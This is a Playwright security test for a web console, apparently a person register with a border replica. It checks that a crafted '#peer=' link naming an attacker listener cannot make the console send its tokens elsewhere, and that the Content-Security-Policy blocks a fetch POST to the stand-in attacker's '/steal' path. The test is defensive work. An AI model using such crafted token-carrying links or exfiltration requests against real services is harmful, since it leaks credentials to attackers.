/**
 * A crafted console link cannot send tokens elsewhere: `#peer=http://evil…` in a link is ignored (the
 * peer console is the one the service is configured with), and the page's Content-Security-Policy
 * lets it connect to its own origin and that configured peer only. A listener on another local port
 * stands in for the attacker and counts every request it gets. In Debian's Chromium (browser.ts).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { consoleBuilt, WEB_ROOT } from '../../src/console/assets.js';
import { personLine, tempDir } from '../helpers.js';
import { caughtUp, post, startBorder, startRegister, tokenFor } from '../integration/processes.js';
import { launch, newPage, skipReason } from './browser.js';

async function evilListener(t: { after(fn: () => unknown): void }) {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*' }).end('{}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  t.after(() => server.close());
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, seen };
}

const hrefs = (page: Page) => page.locator('a[href]').evaluateAll((links) => links.map((a) => (a as unknown as { href: string }).href));

test('a #peer= link cannot make the console send its tokens (or anything) to another origin', { timeout: 180_000, skip: skipReason() }, async (t) => {
  assert.ok(consoleBuilt(), `the console is not built at ${WEB_ROOT}: run npm run build`);
  const evil = await evilListener(t);
  const browser: Browser = await launch();
  t.after(() => browser.close());
  const dir = tempDir(t, 'erx-console-peer-');
  const register = await startRegister(t, join(dir, 'register')); // no --console-peer: the register knows no peer
  const R = register.url;
  assert.equal((await post(`${R}/v1/persons`, personLine({ personId: 'PEER-1' }))).status, 200);
  const border = await startBorder(t, R, join(dir, 'border'));
  const B = border.url;
  await caughtUp(B, R);
  const operator = await tokenFor(R, 'operator', { sub: 'peer-test-operator' });
  const checkpoint = await tokenFor(B, 'checkpoint', { sub: 'peer-test-checkpoint' });
  const problems: string[] = [];
  const page = await newPage(browser, problems);

  await t.test('register pages opened from a link naming an evil peer', async () => {
    await page.goto(`${R}/console/persons#token=${operator}&peer=${encodeURIComponent(evil.url)}&peerToken=${checkpoint}`);
    await page.locator('#person-q:focus').waitFor();
    assert.equal(new URL(page.url()).hash, '', 'the fragment is read and cleared');
    // The token for its own origin works: a search needs the operator's token.
    const searched = page.waitForResponse((r) => r.url().startsWith(`${R}/v1/persons?`));
    await page.keyboard.type('PEER-1');
    await page.keyboard.press('Enter');
    assert.equal((await searched).status(), 200);
    await page.goto(`${R}/console/operations`);
    await page.locator('main').getByText(/Border replica/).first().waitFor();
    await page.waitForTimeout(1500); // the operations page polls; give it time to ask the peer, if it would
    assert.deepEqual((await hrefs(page)).filter((h) => h.startsWith(evil.url)), [], 'no link leads to the evil origin');
    assert.deepEqual(evil.seen, [], 'the evil origin got no request');
  });

  await t.test('the CSP itself refuses a connection to an origin not configured', async () => {
    const outcome = await page.evaluate(`fetch(${JSON.stringify(`${evil.url}/steal`)}, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked')`);
    assert.equal(outcome, 'blocked');
    assert.deepEqual(evil.seen, [], 'the evil origin got no request');
  });

  await t.test('a replica page opened from such a link links to the register it is configured with', async () => {
    await page.goto(`${B}/console/officer#token=${checkpoint}&peer=${encodeURIComponent(evil.url)}&peerToken=${operator}`);
    await page.locator('#mrz:focus').waitFor();
    const links = await hrefs(page);
    assert.ok(links.some((h) => h.startsWith(`${R}/console/`)), `a link to the configured register: ${links.join(' ')}`);
    assert.deepEqual(links.filter((h) => h.startsWith(evil.url)), []);
    await page.goto(`${B}/console/operations`);
    await page.waitForTimeout(1000);
    assert.deepEqual(evil.seen, [], 'the evil origin got no request');
  });
});
